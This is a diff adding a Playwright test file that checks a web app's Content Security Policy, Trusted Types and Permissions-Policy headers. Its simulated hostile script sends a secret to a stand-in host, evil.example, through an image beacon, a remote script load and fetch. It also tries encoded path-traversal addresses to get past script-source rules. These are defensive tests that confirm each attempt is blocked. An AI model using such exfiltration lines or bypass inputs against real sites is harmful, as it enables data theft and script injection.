@@ -1,0 +1,148 @@
+import type { Page } from '@playwright/test'
+import { findBrowser } from '../../../../scripts/browser.ts'
+import { freePort } from '../../../../scripts/ports.ts'
+import { expect } from '../../../../tests/support/fixtures.ts'
+import type { Servers } from '../../../../tests/support/servers.ts'
+import { test } from '../../../support/fixtures.ts'
+import { hasNginx, startNginx } from '../../../support/nginx.ts'
+import { startServers } from '../../../support/servers.ts'
+
+const linesOf = ({ app }: Servers): string[] =>
+  app
+    .output()
+    .split('\n')
+    .flatMap((line) => (line.includes('"policy"') ? [JSON.parse(line)] : []))
+    .map(({ address, detail }) => `${address}: ${detail}`)
+    .sort()
+
+/** What a script of a stranger would try. */
+function doWhatIsForbidden(page: Page): Promise<void> {
+  return page.evaluate(() => {
+    const make = (name: string, properties: object) => Object.assign(document.createElement(name), properties)
+    const attempts = [
+      () => document.body.append(make('img', { src: 'https://evil.example/pixel.png?code=s3cret' })),
+      () => void Object.assign(document.body, { innerHTML: '<b>s3cret</b>' }),
+      () => document.body.append(make('script', { src: 'https://evil.example/x.js' })),
+      () => document.body.append(make('style', { textContent: 'body{top:0}' })),
+      () => document.body.append(make('iframe', { src: 'https://evil.example/' })),
+      () => void fetch('https://evil.example/?code=s3cret').catch(() => null),
+    ]
+    for (const attempt of attempts)
+      try {
+        attempt()
+      } catch {
+        // Trusted types throw; that each was stopped is what the reports are asked for.
+      }
+  })
+}
+
+const stopped = [
+  '/login: connect-src stopped https://evil.example',
+  '/login: frame-src stopped https://evil.example',
+  '/login: img-src stopped https://evil.example',
+  '/login: require-trusted-types-for stopped trusted-types-sink',
+  '/login: require-trusted-types-for stopped trusted-types-sink',
+  '/login: style-src-elem stopped inline',
+]
+const path = '/login?reason=access_denied&returnTo=%2Fs3cret'
+
+test.describe('a page that breaks the policy on purpose', () => {
+  test.use({ expectedProblems: [/violation|policy|Trusted|requires|violates/i] })
+
+  test('is stopped six times, and each is a line in the log, without a query', async ({ page, problems }) => {
+    const servers = await startServers()
+    await page.goto(servers.app.origin + path)
+    expect(problems).toEqual([])
+    await doWhatIsForbidden(page)
+    await expect.poll(() => linesOf(servers)).toEqual(stopped)
+    expect(servers.app.output()).not.toContain('s3cret')
+    // The browser tells the test of them on a way of its own.
+    await expect.poll(() => problems.filter((problem) => problem.startsWith('violation: ')).length).toBe(6)
+    await expect(page.getByRole('main')).toBeVisible()
+    await leave(page)
+    await servers.stop()
+  })
+
+  test('lets a script come from the folder of the build alone, however its address is spelled', async ({ page }) => {
+    const servers = await startServers()
+    await page.goto(servers.app.origin + path)
+    const taken = (address: string) =>
+      page.evaluate((src) => {
+        try {
+          return Object.assign(document.createElement('script'), { src }).src
+        } catch {
+          return null
+        }
+      }, address)
+    expect(await taken('/_next/static/x.js?dpl=1')).toBe(`${servers.app.origin}/_next/static/x.js?dpl=1`)
+    for (const outside of ['..', '%2e%2e', '.%2E', '.\t.', '.\n.', '\n..'])
+      expect(await taken(`/_next/static/${outside}/${outside}/api/me`), JSON.stringify(outside)).toBe(null)
+    for (const address of [
+      '/api/me',
+      '_next/static/x.js/../../../api/me',
+      '//evil.example/_next/static/x.js',
+      'data:,x',
+    ])
+      expect(await taken(address), address).toBe(null)
+    await leave(page)
+    await servers.stop()
+  })
+
+  test('tells the same on https, by the newer way of browsers', async ({ playwright, launchOptions }) => {
+    test.skip(!hasNginx, 'There is no nginx, or no openssl, on this machine')
+    const port = await freePort()
+    const servers = await startServers({ APP_URL: `https://127.0.0.1:${port}` })
+    const nginx = await startNginx({ port, upstreams: [servers.app.origin] })
+    // Reports are sent by no page, so the browser itself must trust the certificate; and at once, not in a minute.
+    const args = [...(launchOptions.args ?? []), '--ignore-certificate-errors', '--short-reporting-delay']
+    // A headless shell sends none of these.
+    const browser = await playwright.chromium.launch({ ...launchOptions, executablePath: findBrowser(), args })
+    const page = await browser.newPage()
+    await page.goto(nginx.origin + path)
+    await doWhatIsForbidden(page)
+    await expect.poll(() => linesOf(servers)).toEqual(stopped)
+    expect(servers.app.output()).not.toContain('s3cret')
+    await browser.close()
+    await nginx.stop()
+    await servers.stop()
+  })
+})
+
+test.describe('where a script of an extension has made the default policy for trusted types', () => {
+  const policies = {
+    'that allows everything': ['createHTML', 'createScript', 'createScriptURL'],
+    'for markup alone, as most have it': ['createHTML'],
+    'that allows nothing': [],
+  }
+  for (const [title, allowed] of Object.entries(policies)) {
+    test(`one ${title}, pages work as they do without it`, async ({ page, signIn }) => {
+      await page.addInitScript((names) => {
+        const rules = Object.fromEntries(names.map((name) => [name, (text: string) => text]))
+        const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy(...values: unknown[]): void } }
+        trustedTypes.createPolicy('default', rules)
+      }, allowed)
+      await signIn('mira')
+      await page.getByRole('searchbox').fill('ferry')
+      await expect(page.getByText(/^\d+ of 120 playlists$/)).toBeVisible()
+      await page.getByRole('link', { name: 'Night ferry, all of it', exact: true }).click()
+      await expect(page.getByRole('heading', { level: 1, name: 'Night ferry, all of it' })).toBeVisible()
+      await page.getByRole('link', { name: 'Profile' }).click()
+      await expect(page.getByRole('main')).toContainText('Mira Solvang')
+    })
+  }
+})
+
+test('no page may use a camera, a position or anything else that a browser lets pages ask for', async ({ page }) => {
+  const answer = await page.goto('/')
+  const named = `${answer?.headers()['permissions-policy']}`.split('=(), ')
+  const allowed: string[] = await page.evaluate(() =>
+    (document as unknown as { featurePolicy: { allowedFeatures(): string[] } }).featurePolicy.allowedFeatures(),
+  )
+  expect(named.length).toBeGreaterThan(30)
+  expect(allowed.filter((feature) => named.includes(feature))).toEqual([])
+  const powers = /^(?:camera|microphone|geolocation|usb|hid|serial|midi|payment|display-capture|.*-get|clipboard-.*)$/
+  expect(allowed.filter((feature) => powers.test(feature) && !feature.startsWith('digital-'))).toEqual([])
+})
+
+/** Before its servers end: it may still be asking for pictures. */
+const leave = (page: Page) => page.goto('about:blank')
